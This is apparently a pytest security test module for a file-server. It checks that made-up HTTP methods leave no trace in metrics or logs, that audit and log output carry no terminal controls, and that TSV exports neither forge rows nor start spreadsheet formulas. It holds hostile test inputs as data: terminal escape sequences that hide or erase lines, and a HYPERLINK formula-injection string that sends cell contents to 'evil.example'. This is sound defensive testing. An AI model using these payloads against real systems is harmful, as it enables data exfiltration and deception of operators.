"""What an anonymous caller or a submitter can make the server keep or print (issue 20,
items 1, 2 and 8): metrics series and request-log lines from made-up methods, terminal
controls in `score-server audit`, forged rows and formulas in the TSV exports. Each is
reproduced against a real server, as an attacker and an operator would see it."""

from __future__ import annotations

import http.client
import json
import os
import re
import subprocess
import time
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest

from pyscore.server.audit import COLUMNS
from tests.api import submit, upload
from tests.conftest import SERVER, Server, init_server
from tests.integration.test_hostile import World
from tests.publish import song_payload

KNOWN_METHODS = {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"}
FORMULA_STARTS = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def edge(tmp_path_factory: pytest.TempPathFactory):
    """A platform of this module's own, and test_hostile's helpers for it."""
    with init_server(tmp_path_factory.mktemp("edge") / "data") as server:
        world = World(server)
        with world.http:
            yield world


def send(server: Server, method: str, path: str, headers: dict[str, str] | None = None) -> int:
    """The status of one request sent as given (http.client sends any method token)."""
    conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    try:
        conn.request(method, path, headers=headers or {})
        response = conn.getresponse()
        response.read()
        return response.status
    finally:
        conn.close()


def series(metrics: str) -> set[str]:
    """Each sample's name and labels (not its value)."""
    return {line.rsplit(" ", 1)[0] for line in metrics.splitlines() if line and line[0] != "#"}


def logged(server: Server, request_id: str) -> str:
    """The server's log once the line of `request_id` is in it (lines go out in batches;
    the 60 s bound ends only a wait for a line that never comes)."""
    log = server.data_dir / "server.log"
    deadline = time.monotonic() + 60
    while request_id not in (text := log.read_text(errors="replace")):
        assert time.monotonic() < deadline, f"{request_id} never logged"
        time.sleep(0.1)
    return text


def audit_output(server: Server, *args: str) -> bytes:
    """`score-server audit` as an operator runs it: its bytes, exactly as a terminal gets them."""
    out = subprocess.run(
        [SERVER, "audit", "--data-dir", str(server.data_dir), *args],
        capture_output=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr
    return out.stdout


# -- 1: made-up methods are 501 and leave nothing behind -----------------------------------
def test_made_up_methods_are_501_and_leave_nothing_behind(edge: World) -> None:
    server = edge.server
    mark, where = uuid.uuid4().hex, uuid.uuid4().hex
    for i in range(5):  # unknown paths share one route label
        assert send(server, "GET", f"/nowhere/{where}/{i}") == 404
    object_path = f"/download/{uuid.uuid4()}"
    # the methods this server speaks are answered as before
    assert send(server, "OPTIONS", object_path) == 405
    assert send(server, "HEAD", "/metrics") == send(server, "GET", "/isAlive") == 200
    before = httpx.get(f"{server.url}/metrics", timeout=60).text
    assert where not in before
    assert {'route="unmatched"'} <= {m for m in re.findall(r'route="[^"]*"', before)}

    made_up = [f"M{i}{mark}" + "X" * 8000 for i in range(20)]
    for method in made_up:
        for path in (object_path, "/metrics", "/isAlive"):
            assert send(server, method, path, {"Authorization": "Bearer bogus"}) == 501
    for method in ("TRACE", "CONNECT", "QUERY", "PROPFIND"):  # registered, allowed nowhere
        assert send(server, method, object_path) == 405, method
    assert send(server, "get", object_path) == 501  # methods are case-sensitive

    after = httpx.get(f"{server.url}/metrics", timeout=60).text
    assert mark not in after
    assert series(after) == series(before)
    assert set(re.findall(r'method="([^"]*)"', after)) <= KNOWN_METHODS
    end = f"end-{where}"
    assert send(server, "GET", "/nowhere", {"X-Request-ID": end}) == 404
    log = logged(server, end)
    assert mark not in log and "TRACE" not in log
    assert mark.encode() not in audit_output(server, "--format", "json", "--since", "1h")


def test_inner_layers_name_a_method_they_do_not_know_other() -> None:
    """Should a made-up method get past the edge, metrics and the log still add no value of
    its choosing (the layers driven directly, without KnownMethods before them)."""
    import asyncio

    from pyscore.server.web import logging, metrics

    lines: list[bytes] = []

    class Sink:
        def write(self, line: bytes) -> None:
            lines.append(line)

    async def app(scope: dict, receive: object, send: Any) -> None:
        await send({"type": "http.response.start", "status": 405, "headers": []})
        await send({"type": "http.response.body", "body": b""})

    async def send(message: dict) -> None:
        pass

    method = "M" + uuid.uuid4().hex * 100
    scope = {"type": "http", "method": method, "path": "/x", "headers": []}
    layers = logging.RequestLog(metrics.Metrics(app), sink=Sink())  # type: ignore[arg-type]
    asyncio.run(layers(scope, None, send))  # type: ignore[arg-type]
    exposed = metrics.exposition().decode()
    assert method not in exposed and 'method="other",route="unmatched",status="405"' in exposed
    assert [json.loads(x)["method"] for x in lines] == ["other"]


# -- 2: the audit trail cannot drive the operator's terminal -------------------------------
HIDDEN = ("\x1b", "\r", "\x9b", "\x85", "\u2028", "\u202e", "\x7f")


def test_audit_tsv_carries_no_terminal_controls(edge: World) -> None:
    server = edge.server
    mark = uuid.uuid4().hex
    # ESC[8m hides what follows; CR ESC[1A ESC[2K erases the line above; CSI (C1), NEL, LS,
    # a right-to-left override and DEL, all percent-encoded in the path
    hostile = "%1b%5b8mhidden%0d%1b%5b1A%1b%5b2K%c2%9b2J%c2%85%e2%80%a8%e2%80%ae%7f"
    plausible = str(uuid.uuid4())
    for rid, object_id in ((f"esc-{mark}", hostile), (f"id-{mark}", plausible)):
        headers = {"Authorization": "Bearer bogus", "X-Request-ID": rid, "User-Agent": "ua\x9b2J"}
        assert send(server, "GET", f"/download/{object_id}", headers) == 401

    deadline = time.monotonic() + 60  # records are written in batches: waited for, bounded
    while (out := audit_output(server, "--since", "1h")).count(mark.encode()) < 2:
        assert time.monotonic() < deadline, out
        time.sleep(0.3)
    text = out.decode("utf-8")
    for char in HIDDEN:
        assert char not in text, repr(char)
    lines = text.split("\n")
    assert lines[-1] == "" and text.splitlines() == lines[:-1]  # no other line breaks
    rows = {}
    for line in lines[1:-1]:
        cells = line.split("\t")
        assert len(cells) == len(COLUMNS), line
        rows[cells[-1]] = dict(zip(COLUMNS, cells))
    esc, ok = rows[f"esc-{mark}"], rows[f"id-{mark}"]
    assert (esc["outcome"], esc["status"], esc["object_id"]) == ("refused", "401", "")
    assert "\\x1b[8mhidden\\r" in esc["reason"], esc["reason"]
    assert esc["user_agent"] == "ua\\x9b2J"
    assert (ok["outcome"], ok["object_id"]) == ("refused", plausible)
    # JSON lines keep exact values: the plausible id as given, the other not as an id
    records = [json.loads(x) for x in audit_output(server, "--format", "json").splitlines()]
    by_id = {r["request_id"]: r for r in records}
    assert by_id[f"id-{mark}"]["object_id"] == plausible
    assert by_id[f"esc-{mark}"]["object_id"] is None


def test_request_log_lines_carry_no_terminal_controls(edge: World) -> None:
    """The JSON request log: msgspec escapes C0 controls, but C1 controls (CSI, NEL), DEL,
    the line and paragraph separators and bidirectional overrides of `path` and `user_agent`
    went out raw, for a terminal or log viewer showing the log to act on. Each is written
    as a JSON escape: the line stays one line, and a JSON reader gets the exact value."""
    server = edge.server
    rid = f"log-{uuid.uuid4().hex}"
    path = "/nowhere/%c2%9b2J%c2%85%e2%80%a8%e2%80%a9%e2%80%ae%7f%1b%5b8m"
    agent = "ua\x9b2J\x85"  # sent as Latin-1 bytes: 0x9b is CSI to a terminal
    assert send(server, "GET", path, {"X-Request-ID": rid, "User-Agent": agent}) == 404
    logged(server, rid)
    raw = (server.data_dir / "server.log").read_bytes()
    (line,) = [x for x in raw.split(b"\n") if rid.encode() in x]
    text = line.decode("utf-8")
    for char in (*HIDDEN, "\u2029"):
        assert char not in text, repr(char)
    assert text.splitlines() == [text]
    record = json.loads(text)
    assert record["path"] == "/nowhere/\x9b2J\x85\u2028\u2029\u202e\x7f\x1b[8m"
    assert record["user_agent"] == agent


# -- 8: exported TSVs forge no rows and start no formulas ----------------------------------
HOSTILE_DATA_TYPE = '=HYPERLINK("http://evil.example/?"&A1,"x")\tforged\nDO1\t=1+1\r@x\u2028y'


def tsv_rows(text: str) -> list[dict[str, str]]:
    """Rows of a TSV, checking that only its newlines break lines and every row has as
    many cells as its header, none of them starting a formula."""
    lines = text.split("\n")
    assert lines[-1] == "" and text.splitlines() == lines[:-1], text
    header = lines[0].split("\t")
    rows = []
    for line in lines[1:-1]:
        cells = line.split("\t")
        assert len(cells) == len(header), line
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], line
        rows.append(dict(zip(header, cells)))
    return rows


def test_exports_forge_no_rows_and_start_no_formulas(edge: World, tmp_path: Path) -> None:
    study = f"TSV{uuid.uuid4().hex[:6].upper()}"
    edge.study(study)
    name = "-SUM(A1).bam"  # a legal file name that a spreadsheet reads as a formula
    data = os.urandom(1000)
    payload = song_payload(study, {name: data})
    payload["files"][0]["dataType"] = HOSTILE_DATA_TYPE
    analysis_id, ids = submit(edge.http, payload, edge.admin)
    upload(edge.http, ids[name], data, edge.admin)
    r = edge.http.put(f"/studies/{study}/analysis/publish/{analysis_id}", headers=edge.admin)
    assert r.status_code == 200, r.text

    table = edge.http.get("/repository/table.tsv", params={"study": study})
    assert table.status_code == 200
    [row] = tsv_rows(table.text)
    assert row["data_type"] == (
        '\'=HYPERLINK("http://evil.example/?"&A1,"x")\\tforged\\nDO1\\t=1+1\\r@x\\u2028y'
    )
    assert (row["file_name"], row["object_id"], row["size"]) == (f"'{name}", ids[name], "1000")

    manifest = edge.http.get("/repository/manifest.tsv", params={"study": study})
    [entry] = tsv_rows(manifest.text)
    assert (entry["file_name"], entry["object_id"]) == (f"'{name}", ids[name])
    # score-client reads the guarded name back as the file's own
    path = tmp_path / "manifest.tsv"
    path.write_text(manifest.text)
    out = edge.server.client(
        "download",
        "--manifest",
        str(path),
        "--output-dir",
        str(tmp_path / "out"),
        token=edge.server.admin_token,
    )
    assert out.returncode == 0, out.stderr
    saved = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    [got] = [p for p in saved if ".score-client" not in p.parts]
    assert (got.name, got.read_bytes()) == (name, data)
